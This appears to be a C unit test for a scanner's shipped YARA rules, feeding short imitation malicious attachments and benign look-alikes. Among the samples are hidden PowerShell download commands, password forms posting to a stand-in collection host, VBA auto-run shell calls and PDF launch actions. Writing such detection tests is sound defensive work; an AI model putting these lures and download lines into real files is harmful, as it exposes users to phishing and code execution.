/* SPDX-License-Identifier: BSD-2-Clause */
#include "probe.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <cmocka.h>

/*
 * The shipped rules against small harmless imitations, and against look-alikes
 * of honest mail in which no rule may match.
 */

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))
#define TEN(x)	 x x x x x x x x x x
#define FILLER	 TEN("QUFB") TEN("QkJC")

struct sample {
	const char *rule; /* that must match; NULL: none may */
	const char *name; /* of the file; NULL: a displayed body */
	const char *type_name;
	enum assay_class type_class;
	const char *data;
	size_t size;	/* 0: strlen */
	size_t padding; /* blanks behind it */
};

#define ONENOTE_OBJECT                                                                             \
	"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"                         \
	"\x40\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
#define LNK_HEADER "\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"
#define OLE_HEADER "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
#define BIFF_BOF   "\x09\x08\x10\0\0\x06\x05\0"
#define BYTES(x)   x, sizeof(x) - 1

static const struct sample samples[] = {
	{"html_smuggling_archive", "a.html", "HTML", ASSAY_CLASS_HTML,
	 "<script>var b=atob('UEsDB" FILLER "');var u=URL.createObjectURL(new Blob([b]));</script>",
	 0, 0},
	{"html_smuggling_archive", "a.html", "HTML", ASSAY_CLASS_HTML,
	 "<script>x=new Uint8Array(d(\"TVqQ" FILLER "\"));a.download = 'x'</script>", 0, 0},
	{"html_smuggling_archive", NULL, "HTML", ASSAY_CLASS_HTML,
	 "<script>atob(`UmFyIRo" FILLER "`);navigator.msSaveOrOpenBlob(b,n)</script>", 0, 0},
	{"html_smuggling_blob", "a.html", "HTML", ASSAY_CLASS_HTML,
	 "<script>x=atob(d);u=URL.createObjectURL(b);a.download='f';a.click()</script>", 0, 9000},
	{"html_attached_login_form", "a.html", "HTML", ASSAY_CLASS_HTML,
	 "<FORM method=post ACTION='https://collect.example/x'><input name=p type='password'>", 0,
	 0},
	{"html_attached_login_form", "a.mht", "MHT", ASSAY_CLASS_HTML,
	 "<input type=password><script>fetch(\"https://api.example/\")</script>", 0, 0},
	{"html_page_unescaped", "a.html", "HTML", ASSAY_CLASS_HTML,
	 "<script>document.write(unescape('" TEN("%3C") TEN("%3C") TEN("%3C") TEN("%3C") "'))", 0,
	 0},
	{"html_page_unescaped", "a.html", "HTML", ASSAY_CLASS_HTML,
	 "<script>eval(atob('YWxlcnQoMSk='))</script>", 0, 0},
	{"svg_script_redirect", "a.svg", "SVG", ASSAY_CLASS_HTML,
	 "<svg "
	 "xmlns='http://www.w3.org/2000/svg'><script>location.href='https://x.example'</script></"
	 "svg>",
	 0, 0},
	{"svg_script_redirect", "a.svg", "SVG", ASSAY_CLASS_HTML,
	 "<svg xmlns='x' onload='eval(atob(this.id))'></svg>", 0, 0},
	{"link_remote_search", NULL, "HTML", ASSAY_CLASS_HTML,
	 "<a href=\"search-ms:query=inv&crumb=location:\\\\203.0.113.1\\share\">x</a>", 0, 0},
	{"link_remote_search", "a.txt", "TEXT", ASSAY_CLASS_TEXT,
	 "search:query=a&crumb=location%3A%5C%5Chost.example%5Cx", 0, 0},
	{"vba_autoexec_shell", "Module1.bas", "TEXT", ASSAY_CLASS_TEXT,
	 "Attribute VB_Name = \"M\"\nSub AutoOpen()\nCreateObject(\"WScript.Shell\").Run x\nEnd "
	 "Sub",
	 0, 0},
	{"vba_autoexec_shell", "Module1.bas", "TEXT", ASSAY_CLASS_TEXT,
	 "Attribute VB_Name = \"M\"\nPrivate Sub Workbook_Open()\n Shell (\"calc\")\nEnd Sub", 0,
	 0},
	{"xls_hidden_macro_sheet", "a.xls", "XLS", ASSAY_CLASS_OFFICE,
	 BYTES(OLE_HEADER BIFF_BOF "\x85\0\x0e\0\x12\x34\0\0\x01\x01\x06\0Macro1"), 0},
	{"rtf_equation_autoload", "a.doc", "RTF", ASSAY_CLASS_OFFICE,
	 "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105}}}", 0,
	 0},
	{"rtf_equation_autoload", "a.rtf", "RTF", ASSAY_CLASS_OFFICE,
	 "{\\rt{\\object\\objupdate{\\*\\objdata 4571756174696F6E2E3300}}}", 0, 0},
	{"onenote_embedded_program", "a.one", "ONE", ASSAY_CLASS_ONENOTE,
	 BYTES(ONENOTE_OBJECT "MZ\x90"), 0},
	{"onenote_embedded_program", "a.one", "ONE", ASSAY_CLASS_ONENOTE,
	 BYTES(ONENOTE_OBJECT LNK_HEADER), 0},
	{"onenote_embedded_program", "a.one", "ONE", ASSAY_CLASS_ONENOTE,
	 BYTES(ONENOTE_OBJECT "@Echo off\r\n"), 0},
	{"onenote_embedded_program", "a.one", "ONE", ASSAY_CLASS_ONENOTE,
	 BYTES(ONENOTE_OBJECT "<html><HTA:Application>"), 0},
	{"pdf_launch_program", "a.pdf", "PDF", ASSAY_CLASS_PDF,
	 "%PDF-1.4\n1 0 obj<</S /Launch /F (cmd.exe)>>", 0, 0},
	{"pdf_launch_program", "a.pdf", "PDF", ASSAY_CLASS_PDF,
	 "%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/Win << /P (x) >>>>", 0, 0},
	{"pdf_script_export", "a.pdf", "PDF", ASSAY_CLASS_PDF,
	 "%PDF-1.4\n<</JS(this.exportDataObject({ cName: \"x\", nLaunch: 2 });)>>", 0, 0},
	{"script_hidden_download", "a.bat", "BAT", ASSAY_CLASS_SCRIPT,
	 "powershell -w hidden -c (New-Object Net.WebClient).DownloadString('http://x.example')", 0,
	 0},
	{"script_hidden_download", "a.cmd", "BAT", ASSAY_CLASS_SCRIPT,
	 "PowerShell -WindowStyle Hidden iwr https://x.example/a -o b", 0, 0},
	{"script_activex_dropper", "a.js", "JS", ASSAY_CLASS_SCRIPT,
	 "x=new ActiveXObject('MSXML2.XMLHTTP');s=new ActiveXObject('ADODB.Stream');"
	 "new ActiveXObject('WScript.Shell').Run(f)",
	 0, 0},
	{"lnk_runs_command", "a.lnk", "LNK", ASSAY_CLASS_SHORTCUT,
	 BYTES(LNK_HEADER "p\0o\0w\0e\0r\0s\0h\0e\0l\0l\0.\0e\0x\0e\0"), 0},
	{"lnk_runs_command", "a.lnk", "LNK", ASSAY_CLASS_SHORTCUT,
	 BYTES(LNK_HEADER "c\0m\0d\0.\0e\0x\0e\0 \0/\0c\0"), 0},
	{"calendar_attached_program", "a.ics", "ICS", ASSAY_CLASS_CALENDAR,
	 "BEGIN:VCALENDAR\r\nATTACH;FMTTYPE=application/zip;ENCODING=BASE64;\r\n"
	 " VALUE=BINARY:UEsDBBQAAAA\r\nEND:VCALENDAR\r\n",
	 0, 0},

	{NULL, "report.html", "HTML", ASSAY_CLASS_HTML,
	 "<script src=x></script><script>var plotly=1;u=atob(x);URL.createObjectURL(b);"
	 "a.download='plot.png';a.click()</script>",
	 0, 9000},
	{NULL, "coverage.html", "HTML", ASSAY_CLASS_HTML,
	 "<img src='data:image/png;base64,iVBORw0" FILLER "'><script>sort(document)</script>", 0,
	 0},
	{NULL, NULL, "HTML", ASSAY_CLASS_HTML,
	 "<p>News</p><form action='https://news.example/sub'><input type=email></form>", 0, 0},
	{NULL, "survey.html", "HTML", ASSAY_CLASS_HTML,
	 "<form action='https://survey.example/send'><input type='text'></form>", 0, 0},
	{NULL, "local.html", "HTML", ASSAY_CLASS_HTML,
	 "<form action='login.cgi'><input type=password></form>", 0, 0},
	{NULL, "logo.svg", "SVG", ASSAY_CLASS_HTML,
	 "<svg xmlns='x'><style>a{}</style><a href='https://x.example'><rect/></a><animate "
	 "begin='0s'/></svg>",
	 0, 0},
	{NULL, "flame.svg", "SVG", ASSAY_CLASS_HTML,
	 "<svg onload='init(evt)'><script>function init(e){zoom(e.target)}</script></svg>", 0, 0},
	{NULL, NULL, "HTML", ASSAY_CLASS_HTML,
	 "<a href='https://x.example/search:all?crumb=location'>search: results, "
	 "crumb=location</a>",
	 0, 0},
	{NULL, "notes.txt", "TEXT", ASSAY_CLASS_TEXT,
	 "In VBA, Sub AutoOpen() runs at start; CreateObject(\"WScript.Shell\") starts programs.",
	 0, 0},
	{NULL, "Module2.bas", "TEXT", ASSAY_CLASS_TEXT,
	 "Attribute VB_Name = \"M\"\nSub Workbook_Open()\n Range(\"A1\").Value = 1\nEnd Sub", 0, 0},
	{NULL, "b.xls", "XLS", ASSAY_CLASS_OFFICE,
	 BYTES(OLE_HEADER BIFF_BOF "\x85\0\x0e\0\x12\x34\0\0\x01\0\x06\0Sheet1"), 0},
	{NULL, "c.xls", "XLS", ASSAY_CLASS_OFFICE,
	 BYTES(OLE_HEADER BIFF_BOF "\x85\0\x0e\0\x12\x34\0\0\0\x01\x06\0Macro1"), 0},
	{NULL, "chart.rtf", "RTF", ASSAY_CLASS_OFFICE,
	 "{\\rtf1{\\object\\objemb{\\*\\objclass MSGraph.Chart.8}{\\*\\objdata 0105}}}", 0, 0},
	{NULL, "maths.rtf", "RTF", ASSAY_CLASS_OFFICE,
	 "{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105}}}", 0, 0},
	{NULL, "b.one", "ONE", ASSAY_CLASS_ONENOTE, BYTES(ONENOTE_OBJECT "\x89PNG\r\n\x1a\n"), 0},
	{NULL, "form.pdf", "PDF", ASSAY_CLASS_PDF,
	 "%PDF-1.4\n<</OpenAction[3 0 R/Fit]/AcroForm 4 0 R>>(how to /Launch a .exe)", 0, 0},
	{NULL, "install.ps1", "PS1", ASSAY_CLASS_SCRIPT,
	 "Set-ExecutionPolicy Bypass -Scope Process; iex ((New-Object Net.WebClient)"
	 ".DownloadString('https://install.example/x.ps1'))",
	 0, 0},
	{NULL, "login.js", "JS", ASSAY_CLASS_SCRIPT,
	 "if (window.ActiveXObject) x = new ActiveXObject('Microsoft.XMLHTTP');", 0, 0},
	{NULL, "doc.lnk", "LNK", ASSAY_CLASS_SHORTCUT,
	 BYTES(LNK_HEADER "C\0:\0\\\0D\0o\0c\0s\0\\\0a\0.\0p\0d\0f\0"), 0},
	{NULL, "meeting.ics", "ICS", ASSAY_CLASS_CALENDAR,
	 "BEGIN:VCALENDAR\r\nATTACH;FMTTYPE=application/pdf;ENCODING=BASE64;VALUE=BINARY:"
	 "JVBERi0xLjQK\r\nATTACH:https://x.example/a.zip\r\nEND:VCALENDAR\r\n",
	 0, 0},
	{NULL, NULL, "TEXT", ASSAY_CLASS_TEXT,
	 "Please run powershell -w hidden and then mshta, said nobody. exportDataObject", 0, 0},
};

/* The sample's octets with its padding, as a heap block of the exact size. */
static unsigned char *make_data(const struct sample *sample, size_t *size_out)
{
	size_t size = sample->size != 0 ? sample->size : strlen(sample->data);
	unsigned char *data = malloc(size + sample->padding);

	assert_non_null(data);
	memcpy(data, sample->data, size);
	memset(data + size, ' ', sample->padding);
	*size_out = size + sample->padding;
	return data;
}

static int open_shipped(void **state)
{
	struct probe *probe = calloc(1, sizeof(*probe));

	assert_non_null(probe);
	*state = probe;
	if (probe_open(probe, &assay_plugin) != 0) {
		print_message("load: %s\n", probe->loaded.error);
		return -1;
	}
	return 0;
}

static int close_shipped(void **state)
{
	probe_close(*state);
	free(*state);
	return 0;
}

static void inspect(struct probe *probe, const struct sample *sample)
{
	size_t size;
	unsigned char *data = make_data(sample, &size);
	struct assay_object object = probe_object(as_span_make(data, size), sample->name, NULL);

	print_message("case: %s %s: %.50s\n", sample->rule != NULL ? sample->rule : "nothing",
		      sample->name != NULL ? sample->name : "body", sample->data);
	object.type = "application/x-test";
	object.type_name = sample->type_name;
	object.type_class = sample->type_class;
	if (sample->name == NULL)
		object.flags = ASSAY_FLAG_BODY;
	assert_int_equal(probe_run(probe, &object, ASSAY_JUDGE), 0);
	free(data);
}

static void each_rule_finds_its_samples(void **state)
{
	struct probe *probe = *state;
	char code[96];

	for (size_t i = 0; i < COUNT(samples); i++) {
		if (samples[i].rule == NULL)
			continue;
		inspect(probe, &samples[i]);
		snprintf(code, sizeof(code), "yara.%s", samples[i].rule);
		assert_true(probe_has(probe, code));
	}
}

static void no_rule_finds_the_look_alikes(void **state)
{
	struct probe *probe = *state;

	for (size_t i = 0; i < COUNT(samples); i++) {
		if (samples[i].rule != NULL)
			continue;
		inspect(probe, &samples[i]);
		if (probe->finding_count > 0)
			print_message("found: %s\n", probe->findings[0].code);
		assert_int_equal(probe->finding_count, 0);
	}
}

static void each_rule_has_a_sample_and_no_warning(void **state)
{
	struct probe *probe = *state;
	size_t rules = 0;

	for (size_t i = 0; i < COUNT(samples); i++)
		if (samples[i].rule != NULL &&
		    (i == 0 || strcmp(samples[i].rule, samples[i - 1].rule) != 0))
			rules++;
	assert_int_equal(probe->loaded.signatures, rules);
	assert_non_null(strstr(probe->loaded.note, " 0 warnings"));
}

static void the_shipped_rules_depend_on_no_message(void **state)
{
	struct probe *probe = *state;

	assert_int_equal(probe->loaded.context & (ASSAY_CONTEXT_MESSAGE | ASSAY_CONTEXT_NEVER), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_rule_finds_its_samples),
		cmocka_unit_test(no_rule_finds_the_look_alikes),
		cmocka_unit_test(each_rule_has_a_sample_and_no_warning),
		cmocka_unit_test(the_shipped_rules_depend_on_no_message),
	};

	return cmocka_run_group_tests_name("yara shipped rules", tests, open_shipped,
					   close_shipped);
}
